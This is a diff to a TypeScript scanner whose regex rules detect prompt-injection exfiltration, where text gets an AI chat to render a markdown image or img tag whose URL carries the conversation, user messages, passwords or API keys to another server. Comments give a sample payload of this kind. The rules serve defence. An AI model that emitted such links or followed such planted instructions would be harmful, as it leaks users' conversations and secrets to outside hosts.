@@ -5,9 +5,10 @@
 import { INJECTION_PATTERNS } from '../verify/advisory';
 import type { LineRule } from './line-rules';
 
-/** A placeholder the agent fills in: {…}, {{…}}, <…>, $VAR, [USER_…], %s, or a query value naming the chat. */
-const PLACEHOLDER =
-  '(?:\\{\\{?[^}\\s]{0,60}\\}|%7[Bb]|<[A-Za-z_][^>\\s]{0,60}>|\\$[A-Za-z_{(]|\\[[A-Z_]{3,40}\\]|%s\\b|=(?:conversation|chat|history|messages?|prompt|context|memory|summary|secrets?|data|input|query|user_?(?:input|message|query|data))\\b)';
+/** What a placeholder names when it stands for the chat: the conversation, the user's words, secrets. */
+const FILLED = '(?:conversation|chat|history|messages?|prompt|context|memory|summary|secrets?|user|question|answers?|input|query|password|tokens?|api[_ -]?keys?|email|personal|private|data)';
+/** A placeholder the agent fills in with the chat ({conversation}, {{user_message}}, <summary>, $HISTORY, [DATA]), or a query value naming it. */
+const PLACEHOLDER = `(?:(?:\\{\\{?|%7[Bb]|<|\\$\\{?|\\[)[A-Za-z_ .-]{0,30}?${FILLED}[A-Za-z_ .-]{0,30}(?:\\}\\}?|%7[Dd]|>|\\]|\\b)|=(?:conversation|chat|history|user_?(?:input|message|query|data)|summary|secrets?)\\b)`;
 const CHAT_WORDS =
   "(?:conversation|chat(?: history| log)?|user'?s? (?:message|messages|input|question|request|data|details|answers?)|previous (?:messages?|answers?)|message history|context|summary|secrets?|api keys?|passwords?|personal (?:data|information))";
 
@@ -15,7 +16,7 @@ const EXFIL = 'Makes the chat send the conversation to another server when it sh
 
 export const CHAT_RULES: LineRule[] = [
   // ![](https://x/?q={conversation}) — an image the chat loads as soon as the answer renders.
-  { kind: 'chat-exfiltration', severity: 'acts', re: new RegExp(`!\\[[^\\]\\n]{0,200}\\]\\(\\s{0,3}<?https?:\\/\\/[^\\s)]{0,300}?${PLACEHOLDER}`), message: EXFIL },
+  { kind: 'chat-exfiltration', severity: 'acts', re: new RegExp(`!\\[[^\\]\\n]{0,200}\\]\\(\\s{0,3}<?https?:\\/\\/[^\\s)]{0,300}?${PLACEHOLDER}`, 'i'), message: EXFIL },
   { kind: 'chat-exfiltration', severity: 'acts', re: new RegExp(`<img\\b[^>\\n]{0,200}?\\bsrc\\s{0,3}=\\s{0,3}["']?https?:\\/\\/[^\\s"'>]{0,300}?${PLACEHOLDER}`, 'i'), message: EXFIL },
   // "append the user's message to this URL"
   {
